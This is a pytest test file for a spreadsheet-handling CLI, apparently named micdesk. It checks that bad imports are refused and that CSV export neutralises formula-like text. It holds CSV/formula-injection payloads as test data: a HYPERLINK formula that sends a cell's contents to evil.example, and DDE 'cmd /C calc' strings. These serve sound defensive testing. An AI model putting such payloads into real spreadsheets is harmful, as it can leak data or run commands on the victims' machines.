"""Small refusals: each leaves the store (or the folder) as it was, with one clear line."""

from __future__ import annotations

import hashlib
import re
import sqlite3
from pathlib import Path

import openpyxl
import pytest

from micdesk.cli.main import main
from micdesk.core.store import DATABASE_FILENAME, open_store
from micdesk.core.submissions import open_submission, set_value
from micdesk.core.template_store import ensure_default_template


def store_dump_hash(data_dir: Path) -> str:
    """The SHA-256 of the store's SQL dump."""
    connection = sqlite3.connect(data_dir / DATABASE_FILENAME)
    try:
        return hashlib.sha256("\n".join(connection.iterdump()).encode()).hexdigest()
    finally:
        connection.close()


@pytest.fixture
def files(tmp_path: Path) -> Path:
    """A folder with the built-in template as a workbook and Kenya's 2025 export."""
    source = tmp_path / "source"
    store = open_store(source)
    ensure_default_template(store)
    set_value(store, open_submission(store, "KEN", "2025"), "TEC-2", value=7)
    store.close()
    argv = ["--data-dir", str(source)]
    assert main([*argv, "template", "blank", str(tmp_path / "template.xlsx")]) == 0
    assert main([*argv, "export", "--country", "KEN", "--period", "2025",
                 "--out", str(tmp_path / "ken.xlsx")]) == 0  # fmt: skip
    return tmp_path


def test_a_refused_template_import_into_a_new_folder_creates_nothing(files, capsys):
    new_folder = files / "new"
    capsys.readouterr()
    # The blank of the built-in template: the version is not above the one a new store has.
    code = main(["--data-dir", str(new_folder), "template", "import", "--yes",
                 str(files / "template.xlsx")])  # fmt: skip
    assert code == 1
    out = capsys.readouterr().out.strip().splitlines()
    assert "is not above the installed version 1" in out[0]
    assert out[-1] == "template.xlsx: 1 problem; not imported, nothing was changed"
    assert not new_folder.exists()


def test_a_load_where_nothing_can_be_loaded_is_refused_and_creates_no_rows(files, capsys):
    crafted = files / "unknown-codes.xlsx"
    workbook = openpyxl.load_workbook(files / "ken.xlsx")
    codes = {"TEC-2"}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in codes:
                    cell.value = f"ZZZ-{cell.value[4:]}"
    workbook.save(crafted)
    data_dir = files / "fresh"
    store = open_store(data_dir)
    ensure_default_template(store)
    store.close()
    before = store_dump_hash(data_dir)
    capsys.readouterr()
    code = main(["--data-dir", str(data_dir), "submission", "load", "--accept-edited",
                 str(crafted)])  # fmt: skip
    assert code == 1
    captured = capsys.readouterr()
    [line] = captured.err.strip().splitlines()
    assert line.startswith("refused: unknown-codes.xlsx: none of its values can go into")
    assert "0 new, 0 conflict(s), 0 unchanged, 1 not loadable" in captured.out
    assert store_dump_hash(data_dir) == before  # no profile, no submission


def test_a_template_value_past_column_500_is_refused_where_it_is(files, capsys):
    crafted = files / "wide.xlsx"
    workbook = openpyxl.load_workbook(files / "template.xlsx")
    sheet = workbook.worksheets[0]
    sheet.cell(row=2, column=501, value="dropped?")
    workbook.save(crafted)
    capsys.readouterr()
    assert main(["template", "check", "--ignore-installed", str(crafted)]) == 1
    [line] = capsys.readouterr().out.strip().splitlines()
    assert f"{sheet.title}!SG2: a value past column 500 (SF)" in line


HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "＝1+1",
]


def test_csv_of_a_submission_keeps_every_formula_like_text_as_text(tmp_path, capsys):
    import csv

    data_dir = tmp_path / "data"
    store = open_store(data_dir)
    ensure_default_template(store)
    submission = open_submission(store, "KEN", "2025")
    codes = ["TEC-2", "TEC-3", "TEC-4", "SKL-2", "ENV-1", "ENV-2", "ENV-3"]
    for code, text in zip(codes, HOSTILE_TEXTS, strict=True):
        set_value(store, submission, code, value=-5, comment=text)
    store.close()
    workbook = tmp_path / "ken.xlsx"
    argv = ["--data-dir", str(data_dir)]
    assert main([*argv, "export", "--country", "KEN", "--period", "2025",
                 "--out", str(workbook)]) == 0  # fmt: skip
    capsys.readouterr()
    out = tmp_path / "ken-data.csv"
    assert main(["csv", str(workbook), "--out", str(out)]) == 0
    [line] = capsys.readouterr().out.strip().splitlines()
    assert line.endswith(f"{len(HOSTILE_TEXTS)} cell(s) that would run as formulas kept as text")
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    fields = [field for row in rows for field in row]
    for text in HOSTILE_TEXTS:
        assert "'" + text in fields
    assert "-5" in fields  # a negative number stays a number
    triggers = tuple("=+-@\t\r\n＝＋－＠")
    for field in fields:
        stripped = field.lstrip(" ")
        assert not stripped.startswith(triggers) or field.lstrip("+-").replace(".", "").isdigit()
    # Every field is quoted, so a separator inside a text cannot start a new cell.
    raw = out.read_text(encoding="utf-8-sig")
    assert raw.startswith('"') and '",="' not in raw


def test_csv_of_a_sheet_that_is_not_there_names_the_sheets_in_one_line(files, capsys):
    capsys.readouterr()
    code = main(["csv", str(files / "ken.xlsx"), "--sheet", "Nope", "--out",
                 str(files / "x.csv")])  # fmt: skip
    assert code == 2
    [line] = capsys.readouterr().err.strip().splitlines()
    assert "has no sheet 'Nope' (it has: Cover, Data" in line
    assert not (files / "x.csv").exists()


def test_a_submission_with_cells_added_to_its_hidden_sheet_is_not_intact(files, capsys):
    crafted = files / "stuffed.xlsx"
    workbook = openpyxl.load_workbook(files / "ken.xlsx")
    meta = workbook["_micdesk"]
    for row in range(200, 20_200):  # twenty thousand cells where an export writes none
        meta.cell(row=row, column=1, value=f"extra-{row}")
    meta.cell(row=3, column=12, value="and one far right")
    workbook.save(crafted)
    capsys.readouterr()
    assert main(["submission", "check", str(crafted)]) == 3
    [line] = capsys.readouterr().out.strip().splitlines()
    # Every added cell is counted but those that fit the export's own few keys.
    assert re.search(
        r"EDITED since export \(19,9\d\d cells were added to its hidden _micdesk", line
    )


@pytest.mark.parametrize(
    "part",
    ["xl/macros/code.bin", "xl/VBAProject.bin", "xl/macrosheets/sheet1.xml"],
)
def test_a_macro_part_under_any_name_is_refused(files, part, capsys):
    import zipfile

    crafted = files / "macros.xlsx"
    with zipfile.ZipFile(files / "template.xlsx") as source, zipfile.ZipFile(crafted, "w") as out:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "[Content_Types].xml" and part.endswith(".bin"):
                override = (
                    f'<Override PartName="/{part}" '
                    'ContentType="application/vnd.ms-office.vbaProject"/></Types>'
                )
                data = data.replace(b"</Types>", override.encode())
            out.writestr(item, data)
        out.writestr(part, b"\x00" * 64)
    capsys.readouterr()
    assert main(["template", "check", "--ignore-installed", str(crafted)]) == 1
    [line] = capsys.readouterr().out.strip().splitlines()
    assert "macros.xlsx: the workbook contains macros" in line
